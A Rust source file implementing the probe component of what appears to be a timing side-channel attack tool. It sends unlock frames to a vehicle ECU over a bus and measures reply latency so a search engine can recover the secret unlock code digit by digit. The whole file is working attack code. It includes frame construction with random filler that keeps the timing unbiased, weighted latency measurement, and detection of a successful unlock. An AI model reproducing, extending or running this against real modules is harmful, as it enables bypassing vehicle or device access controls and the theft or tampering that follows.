//! The probe oracle: one unlock attempt, one measured outcome.

use rand::rngs::ThreadRng;
use rand::Rng;

use crate::calibration::CalibrationBaseline;
use crate::constants::{
    CALIBRATION_WINDOW_CYCLES, CODE_LEN, DIGIT_BASE_OFFSET, FRAME_LEN, MODULE_ECU_ID,
    REPLY_STATUS_INDEX, REPLY_WAIT_TICKS, STATUS_OK, UNLOCK_OPCODE, VALUE_SPACE,
};
use crate::profile::ModuleProfile;
use crate::types::{bin_to_bcd, Code};

use super::hardware::{capture_edges, CycleCounter, SignalLine, Transport};

/// Result of one unlock probe.
///
/// The quick-timeout case is its own variant rather than a sentinel
/// latency value, so a non-measurement can never be ingested as data.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ProbeOutcome {
    /// The quick timeout elapsed without a single signal edge. A normal
    /// negative result, not an error; carries no latency.
    NoSignal,
    /// Edges were captured but the reply did not confirm the code (or no
    /// reply frame arrived at all, which is treated identically).
    Rejected {
        /// Weighted reply latency in cycles.
        latency: u64,
    },
    /// The reply's status byte confirmed the code.
    Unlocked {
        /// Weighted reply latency in cycles.
        latency: u64,
    },
}

impl ProbeOutcome {
    /// The measured latency, if the probe produced one.
    pub fn latency(&self) -> Option<u64> {
        match self {
            Self::NoSignal => None,
            Self::Rejected { latency } | Self::Unlocked { latency } => Some(*latency),
        }
    }

    /// Whether the target explicitly confirmed the code.
    pub fn is_unlocked(&self) -> bool {
        matches!(self, Self::Unlocked { .. })
    }
}

/// A source of unlock probes.
///
/// The search engine is written against this trait; production code uses
/// [`BusProbe`], tests substitute deterministic fakes.
pub trait UnlockOracle {
    /// Submit `code` with `position` as the last determined digit and
    /// measure the reply.
    fn probe(&mut self, code: &Code, position: usize) -> ProbeOutcome;
}

/// Weighted average of captured edge offsets, later edges weighted more.
///
/// `sum(sample_i * (i+1)) / sum(i+1)` over the captured samples. The first
/// transition is often unstable; weighting later edges more heavily damps
/// that noise. Integer math, matching the wire-level protocol tooling.
pub fn weighted_latency(samples: &[u64]) -> u64 {
    debug_assert!(!samples.is_empty(), "weighted latency needs samples");
    let mut weighted: u64 = 0;
    for (i, sample) in samples.iter().enumerate() {
        weighted += sample * (i as u64 + 1);
    }
    let n = samples.len() as u64;
    weighted / (n * (n + 1) / 2)
}

/// Probe oracle backed by real bus hardware.
///
/// Owns the transport exclusively; the sequential control loop guarantees
/// only one probe is in flight at a time.
pub struct BusProbe<T, L, C, R = ThreadRng> {
    transport: T,
    line: L,
    counter: C,
    rng: R,
    profile: ModuleProfile,
    quick_timeout: u64,
    reply_wait_ticks: u32,
}

impl<T, L, C> BusProbe<T, L, C, ThreadRng>
where
    T: Transport,
    L: SignalLine,
    C: CycleCounter,
{
    /// Create a probe with thread-local filler randomness.
    ///
    /// Starts with the wide calibration window; call
    /// [`BusProbe::apply_baseline`] once calibration completes to switch to
    /// the quick timeout.
    pub fn new(transport: T, line: L, counter: C, profile: ModuleProfile) -> Self {
        Self::with_rng(transport, line, counter, profile, rand::rng())
    }
}

impl<T, L, C, R> BusProbe<T, L, C, R>
where
    T: Transport,
    L: SignalLine,
    C: CycleCounter,
    R: Rng,
{
    /// Create a probe with an explicit filler RNG (deterministic in tests).
    pub fn with_rng(transport: T, line: L, counter: C, profile: ModuleProfile, rng: R) -> Self {
        Self {
            transport,
            line,
            counter,
            rng,
            profile,
            quick_timeout: CALIBRATION_WINDOW_CYCLES,
            reply_wait_ticks: REPLY_WAIT_TICKS,
        }
    }

    /// Switch from the calibration window to the baseline-derived quick
    /// timeout.
    pub fn apply_baseline(&mut self, baseline: &CalibrationBaseline) {
        self.quick_timeout = baseline.quick_timeout();
        tracing::debug!(quick_timeout = self.quick_timeout, "quick timeout armed");
    }

    /// Set the bounded reply-frame wait, in poll ticks.
    pub fn reply_wait_ticks(&mut self, ticks: u32) {
        assert!(ticks > 0, "reply wait must be positive");
        self.reply_wait_ticks = ticks;
    }

    /// Build the unlock frame for `code`.
    ///
    /// Digits up to and including `position` come from `code`; digits not
    /// yet determined get fresh random filler each probe so a fixed suffix
    /// cannot bias the timing measurement.
    fn build_frame(&mut self, code: &Code, position: usize) -> [u8; FRAME_LEN] {
        let mut frame = [0u8; FRAME_LEN];
        frame[0] = MODULE_ECU_ID;
        frame[1] = UNLOCK_OPCODE;
        for i in 0..CODE_LEN {
            let value = if i <= position {
                code.get(i)
            } else {
                self.rng.random_range(0..VALUE_SPACE)
            };
            frame[DIGIT_BASE_OFFSET + self.profile.shuffle_order[i]] = bin_to_bcd(value);
        }
        frame
    }
}

impl<T, L, C, R> UnlockOracle for BusProbe<T, L, C, R>
where
    T: Transport,
    L: SignalLine,
    C: CycleCounter,
    R: Rng,
{
    fn probe(&mut self, code: &Code, position: usize) -> ProbeOutcome {
        let frame = self.build_frame(code, position);
        self.transport.send(&frame);

        let start = self.counter.now();
        let capture = capture_edges(&self.counter, &self.line, start, self.quick_timeout);

        // Early reject: obviously wrong, skip the reply wait entirely.
        if capture.is_empty() {
            return ProbeOutcome::NoSignal;
        }

        let latency = weighted_latency(capture.as_slice());

        match self.transport.receive(self.reply_wait_ticks) {
            Some(reply) if reply[REPLY_STATUS_INDEX] == STATUS_OK => {
                tracing::debug!(latency, "unlock confirmed");
                ProbeOutcome::Unlocked { latency }
            }
            _ => ProbeOutcome::Rejected { latency },
        }
    }
}
